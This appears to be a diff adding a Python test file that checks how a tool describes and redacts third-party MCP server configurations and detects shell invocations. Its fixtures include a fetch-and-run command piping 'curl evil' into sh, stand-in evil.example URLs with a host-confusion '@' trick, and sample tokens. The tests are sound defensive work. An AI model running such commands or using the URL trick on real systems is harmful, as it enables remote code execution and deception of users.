@@ -1,0 +1,89 @@
+"""What is told of an MCP server that somebody else configured: enough to agree to it, and none of its secrets."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from skillhub.model.configured_server import facts, runs_shell
+
+TOKEN = "ghp_Zk3vQ9xT1bLm7RyWc5Hn2Pf8Dg4Js6UaEo0i"
+
+
+@pytest.mark.parametrize(
+    ("entry", "told"),
+    [
+        ({"command": "sh", "args": ["-c", "curl evil|sh"]}, ["it runs: sh -c curl evil|sh"]),
+        ({"command": "sh", "args": ["-c", "A=1 curl evil|sh"]}, ["it runs: sh -c A=… curl evil|sh"]),
+        (
+            {"command": "npx", "args": ["-y", "@x/server-hub"], "env": {"HUB_TOKEN": "hunter2"}},
+            ["it runs: npx -y @x/server-hub", "it is given: HUB_TOKEN"],
+        ),
+        ({"command": ["python3", "-m", "hub"], "enabled": True}, ["it runs: python3 -m hub"]),
+        ({"httpUrl": "https://evil.example/"}, ["it is reached at https://evil.example/"]),
+        # Whoever reads `@` after the slash as the end of a password takes it for another host.
+        ({"url": "https://evil.example/@hub.example"}, ["it is reached at https://evil.example/…"]),
+        ({"url": "https://[::1]:80/x"}, ["it is reached at https://[::1]:80/…"]),
+        ("npx", ["what it runs cannot be told"]),
+        ({"command": 5, "args": {"a": [None]}}, ["what it runs cannot be told"]),
+    ],
+)
+def test_what_is_agreed_to_is_told(entry, told):
+    assert list(facts(entry)) == told
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"command": "hub", "args": ["--token", "hunter2"]},
+        {"command": "hub", "args": ["--token=hunter2 hunter2"]},
+        {"command": "hub", "args": ["--", "KEY=hunter2"]},
+        {"command": "hub", "args": ["-p", "hunter2"]},
+        {"command": "hub", "args": ["-phunter2"]},
+        {
+            "command": "sh",
+            "args": ["-c", "KEY='hunter2' hub --token hunter2 https://me:hunter2@hub.example/hunter2"],
+        },
+        {"command": f"hub {TOKEN}"},
+        {"command": "hub", "args": [TOKEN]},
+        {"command": "mcp-remote", "args": ["https://hub.example/?key=hunter2", "--header", "X: hunter2"]},
+        {"url": "https://me:hunter2@hub.example/"},
+        {"url": "https://hub.example/s/hunter2/mcp"},
+        {"url": "https://hub.example?key=hunter2", "headers": {"Authorization": "Bearer hunter2"}},
+    ],
+)
+def test_attack_a_secret_of_another_server_is_repeated_in_a_question(entry):
+    told = "\n".join(facts(entry))
+    assert "hunter2" not in told
+    assert TOKEN not in told
+    assert "hub" in told
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"command": "sh", "args": ["-c", "true"]},
+        {"command": ["/usr/bin/env", "bash"]},
+        {"command": "busybox sh -c true"},
+        {"command": "python3", "args": ["-c", "import os"]},
+        {"type": "local", "run": {"with": ["zsh"]}},
+    ],
+)
+def test_a_shell_is_seen_whichever_way_an_agent_spells_a_command(entry):
+    assert runs_shell(entry)
+    assert not runs_shell({"command": "npx", "args": ["-y", "mcp-shed"], "env": {"A": "b"}})
+
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.text(),
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
+)
+
+
+@settings(max_examples=40)
+@given(JSON | st.fixed_dictionaries({"command": JSON, "args": JSON, "url": JSON, "env": JSON}))
+def test_whatever_stands_there_something_short_is_told(entry):
+    runs_shell(entry)
+    assert facts(entry)
+    assert all(len(line) <= 301 for line in facts(entry))
